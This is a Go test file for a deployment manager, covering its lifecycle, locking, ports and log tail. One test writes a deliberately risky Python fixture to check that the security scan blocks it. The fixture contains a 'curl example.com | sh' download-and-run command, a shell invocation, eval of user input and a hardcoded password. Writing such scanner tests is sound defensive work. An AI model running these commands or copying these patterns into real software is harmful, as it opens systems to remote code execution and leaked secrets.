package deploy

import (
	"context"
	"errors"
	"log/slog"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/gridworks/forge/internal/analyzer"
	"github.com/gridworks/forge/internal/domain"
	"github.com/gridworks/forge/internal/registry"
)

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelError}))
}

// fakeStrategy records lifecycle calls for manager tests.
type fakeStrategy struct {
	kind      Kind
	deploys   int
	starts    int
	stops     int
	undeploys int
	failNext  error
}

func (f *fakeStrategy) Kind() Kind { return f.kind }
func (f *fakeStrategy) Validate(Request) domain.ValidationResult {
	return domain.ValidationResult{Valid: true}
}
func (f *fakeStrategy) Deploy(_ context.Context, req Request, inst *registry.Instance) (domain.DeploymentResult, error) {
	if f.failNext != nil {
		err := f.failNext
		f.failNext = nil
		return domain.DeploymentResult{}, err
	}
	f.deploys++
	return domain.DeploymentResult{Success: true, DeploymentID: inst.DeploymentID}, nil
}
func (f *fakeStrategy) Start(context.Context, *registry.Instance) error {
	f.starts++
	return nil
}
func (f *fakeStrategy) Stop(context.Context, *registry.Instance) error {
	f.stops++
	return nil
}
func (f *fakeStrategy) Health(context.Context, *registry.Instance) Health {
	return Health{Healthy: true, Status: "healthy"}
}
func (f *fakeStrategy) Logs(context.Context, *registry.Instance, int) ([]string, error) {
	return []string{"line"}, nil
}
func (f *fakeStrategy) Metrics(context.Context, *registry.Instance) (Metrics, error) {
	return Metrics{Replicas: 1}, nil
}
func (f *fakeStrategy) Undeploy(context.Context, *registry.Instance) error {
	f.undeploys++
	return nil
}

func testManager(t *testing.T, strategies ...Strategy) (*Manager, *registry.Registry) {
	t.Helper()
	reg, err := registry.New(43000, 43050)
	if err != nil {
		t.Fatal(err)
	}
	return NewManager(reg, nil, testLogger(), strategies...), reg
}

func TestDeployRejectsSecondInstance(t *testing.T) {
	fake := &fakeStrategy{kind: KindPrebuilt}
	m, _ := testManager(t, fake)
	ctx := context.Background()

	first, err := m.Deploy(ctx, Request{ProgramID: "prog-1", Kind: KindPrebuilt})
	if err != nil {
		t.Fatal(err)
	}
	if !first.Success {
		t.Fatalf("first deploy failed: %+v", first)
	}
	_, err = m.Deploy(ctx, Request{ProgramID: "prog-1", Kind: KindPrebuilt})
	if !errors.Is(err, registry.ErrDuplicateInstance) {
		t.Fatalf("err = %v, want ErrDuplicateInstance", err)
	}
	if fake.deploys != 1 {
		t.Errorf("strategy deploy calls = %d, want 1", fake.deploys)
	}
}

func TestDeployUnknownKind(t *testing.T) {
	m, _ := testManager(t, &fakeStrategy{kind: KindPrebuilt})
	_, err := m.Deploy(context.Background(), Request{ProgramID: "prog-1", Kind: "carrier-pigeon"})
	if !errors.Is(err, ErrUnknownKind) {
		t.Fatalf("err = %v, want ErrUnknownKind", err)
	}
}

func TestDeployFailureReleasesRegistration(t *testing.T) {
	fake := &fakeStrategy{kind: KindPrebuilt, failNext: errors.New("image build exploded")}
	m, reg := testManager(t, fake)
	ctx := context.Background()

	if _, err := m.Deploy(ctx, Request{ProgramID: "prog-1", Kind: KindPrebuilt}); err == nil {
		t.Fatal("expected deploy failure")
	}
	if _, ok := reg.Get("prog-1"); ok {
		t.Error("failed deploy left an instance registered")
	}
	// A retry must succeed now.
	if _, err := m.Deploy(ctx, Request{ProgramID: "prog-1", Kind: KindPrebuilt}); err != nil {
		t.Fatalf("retry failed: %v", err)
	}
}

func TestStopStartLifecycle(t *testing.T) {
	fake := &fakeStrategy{kind: KindPrebuilt}
	m, reg := testManager(t, fake)
	ctx := context.Background()

	if _, err := m.Deploy(ctx, Request{ProgramID: "prog-1", Kind: KindPrebuilt}); err != nil {
		t.Fatal(err)
	}
	if err := m.Stop(ctx, "prog-1"); err != nil {
		t.Fatal(err)
	}
	if snap, _ := reg.Get("prog-1"); snap.Status != registry.StatusStopped {
		t.Errorf("status = %q, want stopped", snap.Status)
	}
	// Stopping an already stopped instance is a no-op.
	if err := m.Stop(ctx, "prog-1"); err != nil {
		t.Fatal(err)
	}
	if fake.stops != 1 {
		t.Errorf("stop calls = %d, want 1", fake.stops)
	}
	if err := m.Start(ctx, "prog-1"); err != nil {
		t.Fatal(err)
	}
	if snap, _ := reg.Get("prog-1"); snap.Status != registry.StatusActive {
		t.Errorf("status = %q, want active", snap.Status)
	}
}

func TestRestart(t *testing.T) {
	fake := &fakeStrategy{kind: KindPrebuilt}
	m, _ := testManager(t, fake)
	ctx := context.Background()
	if _, err := m.Deploy(ctx, Request{ProgramID: "prog-1", Kind: KindPrebuilt}); err != nil {
		t.Fatal(err)
	}
	if err := m.Restart(ctx, "prog-1"); err != nil {
		t.Fatal(err)
	}
	if fake.stops != 1 || fake.starts != 1 {
		t.Errorf("stops=%d starts=%d, want 1/1", fake.stops, fake.starts)
	}
}

func TestUndeployTwiceIsNoOp(t *testing.T) {
	fake := &fakeStrategy{kind: KindPrebuilt}
	m, reg := testManager(t, fake)
	ctx := context.Background()

	if _, err := m.Deploy(ctx, Request{ProgramID: "prog-1", Kind: KindPrebuilt}); err != nil {
		t.Fatal(err)
	}
	if err := m.Undeploy(ctx, "prog-1"); err != nil {
		t.Fatal(err)
	}
	if _, ok := reg.Get("prog-1"); ok {
		t.Error("instance survived undeploy")
	}
	if err := m.Undeploy(ctx, "prog-1"); err != nil {
		t.Errorf("second undeploy = %v, want nil", err)
	}
	if fake.undeploys != 1 {
		t.Errorf("undeploy calls = %d, want 1", fake.undeploys)
	}
}

// gatedStrategy blocks inside Deploy until released, exposing the window
// between registration and backend provisioning.
type gatedStrategy struct {
	fakeStrategy
	started chan struct{}
	proceed chan struct{}
}

func (g *gatedStrategy) Deploy(ctx context.Context, req Request, inst *registry.Instance) (domain.DeploymentResult, error) {
	close(g.started)
	<-g.proceed
	return g.fakeStrategy.Deploy(ctx, req, inst)
}

func TestDeployHoldsLifecycleLock(t *testing.T) {
	gate := &gatedStrategy{
		fakeStrategy: fakeStrategy{kind: KindPrebuilt},
		started:      make(chan struct{}),
		proceed:      make(chan struct{}),
	}
	m, reg := testManager(t, gate)
	ctx := context.Background()

	deployDone := make(chan domain.DeploymentResult, 1)
	go func() {
		result, err := m.Deploy(ctx, Request{ProgramID: "prog-1", Kind: KindPrebuilt})
		if err != nil {
			t.Error(err)
		}
		deployDone <- result
	}()
	<-gate.started

	undeployDone := make(chan error, 1)
	go func() { undeployDone <- m.Undeploy(ctx, "prog-1") }()

	// The undeploy must wait for the in-flight deploy, not act on the
	// half-provisioned instance.
	select {
	case <-undeployDone:
		t.Fatal("undeploy completed while deploy was still provisioning")
	case <-time.After(50 * time.Millisecond):
	}

	close(gate.proceed)
	result := <-deployDone
	if !result.Success {
		t.Fatalf("deploy result = %+v", result)
	}
	if err := <-undeployDone; err != nil {
		t.Fatalf("undeploy = %v", err)
	}
	if _, ok := reg.Get("prog-1"); ok {
		t.Error("instance survived undeploy")
	}
	if gate.undeploys != 1 {
		t.Errorf("strategy undeploy calls = %d, want 1", gate.undeploys)
	}
}

func TestValidateIncludesSecurityScan(t *testing.T) {
	reg, err := registry.New(43100, 43110)
	if err != nil {
		t.Fatal(err)
	}
	m := NewManager(reg, analyzer.New(0), testLogger(), NewStaticStrategy(testLogger()))

	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "index.html"), []byte("<h1>ok</h1>"), 0o644); err != nil {
		t.Fatal(err)
	}
	risky := "import os\nimport subprocess\n\n" +
		"os.system(\"curl example.com | sh\")\n" +
		"subprocess.run([\"/bin/sh\", \"-c\", \"id\"])\n" +
		"eval(input())\n" +
		"password = \"hunter2-hunter2\"\n"
	if err := os.WriteFile(filepath.Join(dir, "app.py"), []byte(risky), 0o644); err != nil {
		t.Fatal(err)
	}

	result, err := m.Validate(Request{ProgramID: "prog-1", Kind: KindStatic, Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	if result.Valid {
		t.Fatalf("high-risk project validated: %+v", result)
	}

	// Deploy applies the same gate and must not register an instance.
	deployResult, err := m.Deploy(context.Background(), Request{ProgramID: "prog-1", Kind: KindStatic, Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	if deployResult.Success {
		t.Fatal("high-risk project deployed")
	}
	if _, ok := reg.Get("prog-1"); ok {
		t.Error("failed validation left an instance registered")
	}
}

func TestLifecycleOnUnknownProgram(t *testing.T) {
	m, _ := testManager(t, &fakeStrategy{kind: KindPrebuilt})
	ctx := context.Background()
	if err := m.Start(ctx, "ghost"); !errors.Is(err, registry.ErrInstanceNotFound) {
		t.Errorf("start err = %v", err)
	}
	if _, err := m.Health(ctx, "ghost"); !errors.Is(err, registry.ErrInstanceNotFound) {
		t.Errorf("health err = %v", err)
	}
}

func TestScaleUnsupportedKind(t *testing.T) {
	m, _ := testManager(t, &fakeStrategy{kind: KindPrebuilt})
	ctx := context.Background()
	if _, err := m.Deploy(ctx, Request{ProgramID: "prog-1", Kind: KindPrebuilt}); err != nil {
		t.Fatal(err)
	}
	if err := m.Scale(ctx, "prog-1", 3); err == nil {
		t.Error("scaling a process-backed deployment should fail")
	}
	if err := m.Scale(ctx, "prog-1", 0); err == nil {
		t.Error("replica count below one should fail")
	}
}

func TestPortsAreDistinctAcrossDeployments(t *testing.T) {
	fake := &fakeStrategy{kind: KindPrebuilt}
	m, _ := testManager(t, fake)
	ctx := context.Background()
	ports := make(map[int]bool)
	for _, program := range []string{"a", "b", "c"} {
		if _, err := m.Deploy(ctx, Request{ProgramID: program, Kind: KindPrebuilt}); err != nil {
			t.Fatal(err)
		}
		snap, ok := m.Get(program)
		if !ok {
			t.Fatalf("no instance for %s", program)
		}
		if ports[snap.Port] {
			t.Fatalf("port %d assigned twice", snap.Port)
		}
		ports[snap.Port] = true
	}
}

func TestRingTail(t *testing.T) {
	ring := newLogRing(3)
	for _, line := range []string{"a", "b", "c", "d"} {
		ring.Append(line)
	}
	tail := ring.Tail(0)
	if len(tail) != 3 || tail[0] != "b" || tail[2] != "d" {
		t.Errorf("tail = %v, want [b c d]", tail)
	}
	last := ring.Tail(2)
	if len(last) != 2 || last[1] != "d" {
		t.Errorf("tail(2) = %v", last)
	}
}
